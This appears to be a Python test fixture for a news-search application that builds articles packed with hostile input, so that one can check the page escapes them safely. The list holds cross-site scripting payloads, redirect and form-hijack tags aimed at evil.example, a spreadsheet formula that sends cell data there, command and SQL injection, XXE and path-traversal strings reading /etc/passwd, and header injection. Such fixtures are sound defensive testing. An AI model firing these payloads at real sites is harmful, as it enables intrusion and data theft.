"""Articles and queries that try to run code in the page, or to break it.

Every text is also a query. An article has its text in every place an article can
have one, with the word "hostile" beside it, so that one search finds them all.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, timedelta
from typing import Final

from search.model.article import (
    Article,
    Country,
    Facts,
    Mention,
    MentionedDate,
    Organisation,
    Person,
    Place,
    PlaceKind,
    Precision,
    Published,
    TextField,
)

__all__ = ["HOSTILE_TEXTS", "hostile_articles"]

_RUN: Final = "window.owned=1;document.title='owned'"

HOSTILE_TEXTS: Final = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea></style></script><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"--><script>{_RUN}</script><!--",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f'<img src=x onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}//",
    f'"><img src=x onerror="{_RUN}">',
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}" x="',
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<a href='javascript:{_RUN}'>press</a>",
    f"javascript:{_RUN}",
    f"jAvAsCrIpT\t:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{display:none}</style><p style='position:fixed;inset:0'>",
    "<form action='https://evil.example/'><input name=q></form>",
    "</p></article></main></body></html>",
    "<p><b><i><table><tr><td><ul><li><select><option>",
    "<" * 300 + ">" * 300,
    "{{ 7*7 }} {% raw %} {{ config }} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "%(num)s %s %d %n {0} {name} %",
    "\u202eevil\u202d \u2066abc \u2067def \u2068ghi",
    "\u200f\u200e\u202a\u202b\u202c\u2069\ufeff\u2028\u2029x",
    "before\x00after \x1b[31mred\x07 \x08\x0c\x7f",
    "a\u0300" + "\u0301" * 400,
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1\t-2 @SUM(1)",
    "\r\nSet-Cookie: owned=1\r\n\r\n<script>x</script>",
    "TY  - JOUR\r\nER  - \r\nTI  - other",
    "}, author = {owned}, \\input{/etc/passwd} $x_1^2$ % & # ~ \\",
    '</script><script type=\'application/ld+json\'>{"@type":"x"}</script>',
    "]]></content></entry><entry><title>owned</title></entry>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt; &amp;amp; &#60;script&#62; &#x3c;script&#x3e; &nosuch;",
    "../../../../etc/passwd%00 ..\\..\\windows /%2e%2e/",
    "'; DROP TABLE article; -- \" OR 1=1",
    "x" * 3_000,
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 \U0001f3f4\U000e0067\U000e0062 \ufdfd \U0010ffff",
    "שלום עולם مرحبا بالعالم",
    "?q=x&person=<b>&from=2015#fragment",
    "\\u003cscript\\u003e \\x3cscript\\x3e <\\/script>",
)


def hostile_articles() -> Iterator[Article]:
    """Yield one article for each text."""
    for number, text in enumerate(HOSTILE_TEXTS):
        body = f"The hostile story {number}. {text} It went on in Paris.\n\n{text}"
        here = (Mention(TextField.BODY, 4, 11, body[4:11]),)
        there = (Mention(TextField.BODY, 0, len(body), body),)
        day = date(2019, 1, 1) + timedelta(number)
        yield Article(
            id=f"hostile{number:02}",
            title=f"Hostile {number:02} {text}",
            body=body,
            source_id=text,
            url=f"https://evil.example/{text}" if number % 2 else text,
            source=text,
            section=text,
            language=text if number % 3 == 0 else "en",
            authors=(text, f"Ann {text}"),
            published=Published(day, Precision.DAY, text, 0.5) if number % 4 else None,
            unreliable_date="" if number % 4 else text,
            facts=Facts(
                people=(Person(text, there, (text,)),),
                organisations=(Organisation(text, here),),
                places=(Place(text, PlaceKind.PLACE, "FR", here, 1, 48.9, 2.3),),
                countries=(Country("FR", "France", True, 0.5),),
                dates=(MentionedDate(str(day), day, day + timedelta(1), there),),
                sentences=(0, 20),
            ),
        )
